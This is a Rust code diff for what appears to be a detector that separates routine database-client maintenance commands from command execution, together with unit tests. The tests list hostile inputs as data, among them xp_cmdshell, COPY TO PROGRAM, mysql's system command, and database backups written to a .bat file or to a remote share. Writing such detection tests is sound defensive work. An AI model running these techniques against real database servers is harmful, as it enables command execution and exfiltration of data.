@@ -217,7 +217,11 @@ fn is_upkeep(text: &str) -> bool {
 
 /// A client of a database that is told SQL: what keeps the database in order is no code.
 pub(super) fn client(program: &str, words: &[String], rest: &str) -> Vec<Carried> {
-    const SQL: [&str; 5] = ["-q", "-e", "-c", "--execute", "--command"];
+    let sql: &[&str] = match program {
+        "psql" => &["-c", "--command"],
+        "mysql" | "mariadb" => &["-e", "--execute"],
+        _ => &["-q", "-Q"],
+    };
     let mut others = Vec::new();
     let mut is_told = false;
     let mut all = words.iter();
@@ -226,10 +230,10 @@ pub(super) fn client(program: &str, words: &[String], rest: &str) -> Vec<Carried
             Some((option, value)) if option.starts_with("--") => (option, Some(value.to_owned())),
             _ => (word.as_str(), None),
         };
-        if SQL.contains(&option.to_lowercase().as_str()) {
+        if sql.contains(&option) {
             is_told = true;
-            let sql = value.or_else(|| all.next().cloned()).unwrap_or_default();
-            if !is_upkeep(&sql) {
+            let text = value.or_else(|| all.next().cloned()).unwrap_or_default();
+            if !is_upkeep(&text) {
                 return vec![Code(format!("{program} {rest}"))];
             }
         } else {
@@ -237,7 +241,7 @@ pub(super) fn client(program: &str, words: &[String], rest: &str) -> Vec<Carried
         }
     }
     // Beside it stand the server, the account and the database, and no file.
-    const FILES: [&str; 9] = [
+    const FILES: [&str; 8] = [
         "-i",
         "-f",
         "-v",
@@ -246,14 +250,11 @@ pub(super) fn client(program: &str, words: &[String], rest: &str) -> Vec<Carried
         "--variable",
         "--set",
         "--output",
-        "--plugin-dir",
     ];
     let is_file = |word: &String| {
-        let lower = word.to_lowercase();
-        let all = FILES.iter();
-        all.into_iter()
-            .any(|option| lower == *option || lower.starts_with(&format!("{option}=")))
-            || lower.contains(['(', '!', '`', '|', '&', '<', '>'])
+        let mut all = FILES.iter();
+        all.any(|option| word == option || word.starts_with(&format!("{option}=")))
+            || word.contains(['(', '!', '`', '|', '&', '<', '>'])
     };
     match is_told && !others.iter().any(is_file) {
         true => Vec::new(),
@@ -322,4 +323,66 @@ pub(in crate::evidence::windows::execution) fn is_told_code(words: &[String]) ->
         takes && !is_path(word) && (by_blank || word.contains(CODE))
     });
     follows || words.iter().any(|word| !is_path(word) && is_call(word))
+}
+
+#[cfg(test)]
+mod tests {
+    use super::{client, is_told_code};
+    use crate::evidence::windows::execution::words::words;
+
+    #[test]
+    fn upkeep_of_databases_is_no_code() {
+        let usual = [
+            (
+                "sqlcmd",
+                r#"-S .\SQLEXPRESS -E -b -Q "BACKUP DATABASE [shop] TO DISK=N'D:\b\shop.bak' WITH INIT""#,
+            ),
+            ("sqlcmd", r#"-E -Q "DBCC CHECKDB (shop) WITH NO_INFOMSGS""#),
+            ("psql", r#"-U postgres -d shop -c "VACUUM ANALYZE""#),
+            ("mysql", r#"-u root --execute="OPTIMIZE TABLE shop.orders""#),
+        ];
+        for (program, rest) in usual {
+            assert!(client(program, &words(rest), rest).is_empty(), "{rest}");
+        }
+        let code = [
+            ("sqlcmd", r#"-Q "EXEC xp_cmdshell 'calc'""#),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP DATABASE x TO DISK='C:\ProgramData\a.bat'""#,
+            ),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP DATABASE x TO DISK='\\203.0.113.9\x\a.bak'""#,
+            ),
+            (
+                "sqlcmd",
+                r#"-Q "BACKUP LOG x TO DISK='a.bak'; EXEC sp_configure 'a', 1""#,
+            ),
+            ("sqlcmd", r#"-Q "CHECKPOINT" -i C:\x.sql"#),
+            ("mysql", r#"-e "system calc""#),
+            ("psql", r#"-c "COPY x TO PROGRAM 'calc'""#),
+        ];
+        for (program, rest) in code {
+            assert!(!client(program, &words(rest), rest).is_empty(), "{rest}");
+        }
+    }
+
+    #[test]
+    fn code_is_told_by_its_form() {
+        for line in [
+            "--eval \"system('calc')\"",
+            "-e print(1)",
+            "--exec \"calc /x\"",
+        ] {
+            assert!(is_told_code(&words(line)), "{line}");
+        }
+        for line in [
+            r#"-c "conf\my app.conf""#,
+            "-e production -x 5",
+            r#"-c "my settings""#,
+            r#"--exec "C:\Program Files\App\a b.log""#,
+        ] {
+            assert!(!is_told_code(&words(line)), "{line}");
+        }
+    }
 }
